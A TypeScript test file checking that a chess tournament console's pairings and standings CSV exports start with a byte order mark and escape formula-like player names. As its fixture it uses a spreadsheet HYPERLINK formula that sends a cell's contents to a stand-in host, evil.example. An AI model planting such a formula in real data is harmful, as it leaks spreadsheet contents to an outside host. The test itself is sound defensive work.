// The CSV exports as a spreadsheet opens them: a UTF-8 byte order mark first, and a player's name
// that a spreadsheet would run as a formula written as text; numbers stay numbers.
import { afterEach, describe, expect, it } from 'vitest';
import { csvLine, tournamentApi, TournamentDesk } from '../../arbiter-console/internal.ts';
import { loadEvent, presetJson } from '../../tournament/index.ts';
import { testDesk, type TestDesk } from './tournament-fixtures.ts';

let t: TestDesk | undefined;
afterEach(() => t?.cleanup());

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

/** Cairns Cup rules, four players, three rounds; player 1 registered under a formula, player 2 as "@Ho, Yifan". */
function eventWithFormulaNames() {
  const json = JSON.parse(presetJson('cairns-cup-2019')) as { sections: { players: { name: string }[]; schedule: unknown[] }[] };
  const section = json.sections[0]!;
  section.players = section.players.slice(0, 4);
  section.schedule = section.schedule.slice(0, 3);
  section.players[0]!.name = FORMULA;
  section.players[1]!.name = '@Ho, Yifan';
  return loadEvent(json);
}

function csv(desk: TournamentDesk, path: string, query: Record<string, string> = {}): string {
  const answer = tournamentApi(desk, path, new URLSearchParams(query))!;
  expect(answer.status).toBe(200);
  expect(answer.type).toBe('text/csv; charset=utf-8');
  return answer.body as string;
}

describe('the CSV exports', () => {
  it("start with a UTF-8 BOM and write a formula-like name as text (a leading ') in pairings and standings", () => {
    const event = eventWithFormulaNames();
    t = testDesk(event);
    const desk = t.desk;

    const pairings = csv(desk, '/api/pairings.csv', { round: '1' });
    expect(pairings.startsWith('\uFEFFround,board,hall board,')).toBe(true);
    const lines = pairings.slice(1).split('\r\n');
    expect(lines.some((l) => l.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`))).toBe(true);
    expect(lines.some((l) => l.includes(`"'@Ho, Yifan"`))).toBe(true);
    expect(lines.every((l) => !/(^|,)"?[=@]/.test(l))).toBe(true);

    const standings = csv(desk, '/api/standings.csv');
    expect(standings.startsWith('\uFEFFrank,no,name,federation,rating,points')).toBe(true);
    const row = standings.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    // rank, number: numbers as they are; the name guarded.
    expect(row).toMatch(/^\d+,1,"'=HYPERLINK\(/);
  });

  it('guards only text cells: a negative number stays a number, a text starting with -, +, tab or CR does not', () => {
    expect(csvLine([-3, -0.5, 0, 2650, null, undefined])).toBe('-3,-0.5,0,2650,,');
    expect(csvLine(['-3', '+1', '\tx', '\rx', 'Carlsen, Magnus', "O'Neil", '1-0'])).toBe(`'-3,'+1,'\tx,"'\rx","Carlsen, Magnus",O'Neil,1-0`);
  });
});
